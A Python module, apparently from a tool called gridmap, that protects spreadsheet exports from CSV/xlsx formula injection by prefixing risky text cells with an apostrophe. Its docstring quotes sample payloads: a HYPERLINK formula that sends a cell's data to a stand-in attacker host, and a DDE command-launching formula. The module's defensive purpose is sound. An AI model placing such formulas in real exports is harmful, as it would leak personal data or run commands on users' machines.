"""Text cells that a spreadsheet shows as text: the one guard against CSV/xlsx formula injection
for every file gridmap writes for people to open (register exports, routing tables, import
reports, statistics, located files).

A register name such as ``=HYPERLINK("http://evil.example/?"&B2, "点击")``, ``@SUM(1)`` or
``+cmd|' /C calc'!A0`` is data to us, but Excel, WPS and LibreOffice run a cell that begins with
``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return before one) as a formula — next to
phone numbers, in an export with ``--personal-data``. OWASP's rule: such a text cell is written
with a leading apostrophe, which the spreadsheet shows as text. A value that is a plain number
(``-12.5``, ``+8613812345678``) cannot be a formula and is left as it is.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import TYPE_CHECKING

if TYPE_CHECKING:  # pandas is imported by safe_frame only: the bulk CLI writes without it
    import pandas as pd

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")


def safe_cell(value):
    """The value, with a leading apostrophe if it is text a spreadsheet would run."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def read_cell(value):
    """The inverse for files we wrote and read back (routing tables, workers): the apostrophe
    :func:`safe_cell` put before a formula character is taken off again."""
    if isinstance(value, str) and value[:1] == "'" and value[1:].startswith(FORMULA_START):
        return value[1:]
    return value


def safe_row(values: Iterable) -> list:
    return [safe_cell(v) for v in values]


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy whose text cells (and column names) are safe to open in a spreadsheet."""
    import pandas as pd

    out = frame.rename(columns=safe_cell)
    for column in out.columns:
        cells = out[column]
        if cells.dtype == object or pd.api.types.is_string_dtype(cells):
            risky = cells.map(lambda v: isinstance(v, str) and safe_cell(v) is not v).astype(bool)
            if risky.any():  # only those cells change: the column keeps its values and type
                out[column] = cells.where(~risky, cells[risky].map(safe_cell))
    return out
